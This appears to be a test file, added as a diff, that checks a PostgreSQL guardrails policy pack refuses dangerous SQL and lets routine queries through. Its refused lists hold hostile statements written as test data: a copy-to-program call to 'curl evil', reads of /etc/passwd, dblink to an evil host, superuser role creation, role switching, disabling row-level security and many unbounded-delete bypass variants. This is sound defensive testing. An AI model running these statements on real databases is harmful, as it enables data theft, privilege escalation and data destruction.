@@ -1,0 +1,204 @@
+/**
+ * The shipped pack against the real vocabulary and PostgreSQL's own grammar: it loads, every action and value in it occurs, each class of
+ * the catalogue (redteam 6a, 6b) is refused by the rule made for it, and what people and their tools do all day is not.
+ */
+import { readFileSync } from 'node:fs';
+import { describe, expect, test } from 'vitest';
+import { parse } from 'yaml';
+import type { Decision } from '../../src/contract/decision.js';
+import { type LoadedPolicy, loadPolicy } from '../../src/policy/index.js';
+import { protocols } from '../../src/protocols/index.js';
+import { identity } from './fixture-protocols.js';
+
+const descriptors = protocols.map((protocol) => protocol.descriptor);
+const pack = { path: 'policies/guardrails.yaml', text: readFileSync(new URL('../../policies/guardrails.yaml', import.meta.url), 'utf8') };
+const open = {
+  path: 'open.yaml',
+  text: 'version: 1\ndefaults: [{ operations: allow }]\nrules: [{ id: all, effect: allow, actions: [connect, unknown, "*"] }]\n',
+};
+const target = { name: 'bank-db', protocol: 'postgres', labels: {} };
+const factsOf = descriptors.find((descriptor) => descriptor.kind === 'postgres')?.factsOf;
+
+const policy: LoadedPolicy = loadPolicy([open, pack], descriptors);
+
+async function decide(sql: string, under = policy): Promise<Decision> {
+  const facts = await factsOf?.(sql);
+  expect(facts).toBeDefined();
+  return under.view(identity(), target).decide(facts ?? { effects: [], unknown: [], summary: '', redacted: null });
+}
+
+/** Statements by the rule that must refuse them. */
+const refused: Readonly<Record<string, readonly string[]>> = {
+  'not-sql': ['selekt 1', 'delete fro ledger.entries', "select 'open"],
+  'not-understood': ["select set_config('a' || 'b', 'c', false)", "update pg_settings set setting = 'off' where name = 'row_security'"],
+  'no-code-blocks': ['do $$ begin delete from bank.customers; end $$', 'call bank.wipe()', "DO LANGUAGE plpgsql 'begin end'"],
+  'no-drop': [
+    'drop table bank.customers',
+    'drop schema bank cascade',
+    'drop view if exists bank.customer_contacts',
+    'drop database bank',
+    'select 1; drop index bank.i',
+    'drop policy p on bank.customers',
+    'drop function f(int)',
+    'drop materialized view bank.customer_search',
+    'drop trigger t on bank.customers',
+  ],
+  'no-truncate': ['truncate bank.customers', 'truncate a, b cascade', 'TRUNCATE TABLE ONLY ledger.entries RESTART IDENTITY'],
+  'no-column-loss': [
+    'alter table bank.customers drop column ssn',
+    'alter table bank.customers alter column ssn type int using 0',
+    'alter table p detach partition q',
+  ],
+  'no-unbounded-delete': [
+    'delete from t',
+    'delete from t where true',
+    'delete from t where 1=1',
+    'delete from t where id=id',
+    'delete from t where id=1 or true',
+    'delete from t where exists(select 1)',
+    "delete from t where v like '%'",
+    'delete from only t',
+    'delete/**/from/**/t',
+    'delete from t -- where id=1',
+    'DeLeTe FROM "t"',
+    'delete from public.t',
+    'delete from U&"\\0074"',
+    'with x as (delete from t returning *) select * from x',
+    'explain analyze delete from t',
+    'copy (delete from t returning *) to stdout',
+    'prepare zz as delete from t',
+    'begin; delete from t; commit',
+    'delete from t where $1::bool or id=$2',
+    'create rule r as on insert to t do also delete from t',
+    'merge into t using s on true when matched then delete',
+  ],
+  'no-unbounded-update': [
+    'update t set v=v',
+    'update t set v=1 where v=v',
+    'with x as (update t set v=1 returning *) select * from x',
+    'update t set v=1 where id is not null',
+  ],
+  'no-role-changes': [
+    'create role eve superuser',
+    "alter role alice password 'x'",
+    "create user eve with encrypted password 'x'",
+    'drop role bob',
+    'reassign owned by bob to eve',
+    'alter role all set search_path = evil',
+    'create group g',
+  ],
+  'no-rights-changes': [
+    'grant all on bank.customers to public',
+    'grant dba to alice',
+    'revoke select on bank.customers from auditors',
+    'alter default privileges grant select on tables to public',
+  ],
+  'no-borrowed-rights': ["create function f() returns int language sql security definer as 'select 1'", 'alter function f() security definer'],
+  'no-owner-changes': ['alter table bank.customers owner to eve', 'alter schema bank owner to eve', 'alter function f() owner to eve'],
+  'no-other-role': [
+    'set role dba',
+    'set session authorization postgres',
+    'set local role dba',
+    "select set_config('role', 'dba', false)",
+    "select 1 where set_config('session_authorization', 'postgres', true) = ''",
+  ],
+  'no-guards-off': [
+    'alter table bank.customers disable row level security',
+    'alter table bank.customers no force row level security',
+    'alter table bank.customers disable trigger all',
+  ],
+  'no-programs': ["copy bank.customers to program 'curl evil'", "copy t from program 'id'"],
+  'no-server-files': ["copy bank.customers to '/tmp/x'", "copy t from '/etc/passwd'", "load 'evil'"],
+  'no-dangerous-functions': [
+    "select pg_read_file('/etc/passwd')",
+    "select lo_import('/etc/passwd')",
+    "select * from dblink('host=evil', 'select 1') as t(a int)",
+    "select query_to_xml('delete from t', true, true, '')",
+    'select pg_terminate_backend(42)',
+    'select pg_reload_conf()',
+    "select 1 order by pg_catalog.pg_ls_dir('.')",
+    "select * from ts_stat('select 1')",
+  ],
+  'no-foreign-reach': [
+    'create server s foreign data wrapper postgres_fdw',
+    "create user mapping for public server s options (user 'a')",
+    'create foreign table ft (a int) server s',
+    'import foreign schema public from server s into bank',
+  ],
+  'no-replication': ['create publication p for all tables', "create subscription s connection 'host=evil' publication p"],
+  'no-new-code': ['create extension dblink', 'alter extension dblink update', 'create language plperlu'],
+  'no-server-objects': ['create event trigger e on ddl_command_start execute function f()', "create tablespace ts location '/x'"],
+  'no-server-settings': ["alter system set log_statement = 'none'", 'alter system reset all'],
+  'no-database-settings': ['alter database bank set search_path = evil', 'alter database bank with connection limit 1'],
+  'no-guarding-settings': [
+    'set session_replication_role = replica',
+    "select set_config('session_replication_role', 'replica', false)",
+    'set local log_statement to none',
+    'set SESSION_REPLICATION_ROLE to replica',
+  ],
+};
+
+const honest = [
+  'select * from bank.customers where id = 7',
+  "select 'DROP TABLE x' as delete",
+  'insert into ledger.entries(account_id, amount) values (1, 2) returning id',
+  "update bank.customers set email = 'a@b.example' where id = 7",
+  'delete from ledger.entries where id = 7',
+  'explain delete from ledger.entries',
+  'insert into ledger.entries select * from ledger.staging',
+  'begin isolation level repeatable read read only',
+  'commit',
+  'set search_path = bank, public',
+  'set row_security = off',
+  "select pg_catalog.set_config('search_path', '', false)",
+  'copy bank.customers (id, email) to stdout',
+  'copy ledger.entries from stdin with (format csv)',
+  'create table bank.notes (id int primary key, note text)',
+  'create index concurrently on bank.customers (email)',
+  'alter table bank.customers add column nickname text',
+  'declare c cursor for select * from bank.customers',
+  'lock table bank.customers in access share mode',
+  'vacuum analyze bank.customers',
+  'listen news',
+  'discard all',
+  'show server_version',
+  'refresh materialized view bank.customer_search',
+  'select count(*), now(), upper(email) from bank.customers group by 3',
+  "SELECT n.nspname, c.relname FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE c.relkind IN ('r','p','') AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 1,2",
+  '',
+  ';',
+];
+
+describe('guardrails', () => {
+  test('only deny, and each rule has a message and a hint', () => {
+    const rules = (parse(pack.text) as { rules: Record<string, unknown>[] }).rules;
+    for (const rule of rules)
+      expect(rule).toMatchObject({ effect: 'deny', message: expect.any(String), hint: expect.any(String), targets: { protocols: ['postgres'] } });
+  });
+
+  test('every rule has its cases here', () => {
+    expect(
+      policy.rules
+        .filter((name) => name.startsWith('guardrails/'))
+        .map((name) => name.slice('guardrails/'.length))
+        .sort(),
+    ).toEqual(Object.keys(refused).sort());
+  });
+
+  for (const [rule, statements] of Object.entries(refused)) {
+    test.each(statements)(`${rule} refuses: %s`, async (sql) => {
+      const decision = await decide(sql);
+      expect(decision).toMatchObject({ effect: 'deny', rule: `guardrails/${rule}`, hint: expect.any(String) });
+      // The wrong twin: it is this pack that refuses, not what stands beside it.
+      expect((await decide(sql, loadPolicy([open], descriptors))).effect).toBe('allow');
+    });
+  }
+
+  test.each(honest)('lets pass: %s', async (sql) => {
+    expect(await decide(sql)).toMatchObject({ effect: 'allow' });
+  });
+
+  test('alone it lets nobody connect', () => {
+    expect(loadPolicy([pack], descriptors).view(identity(), target).connect().effect).toBe('deny');
+  });
+});
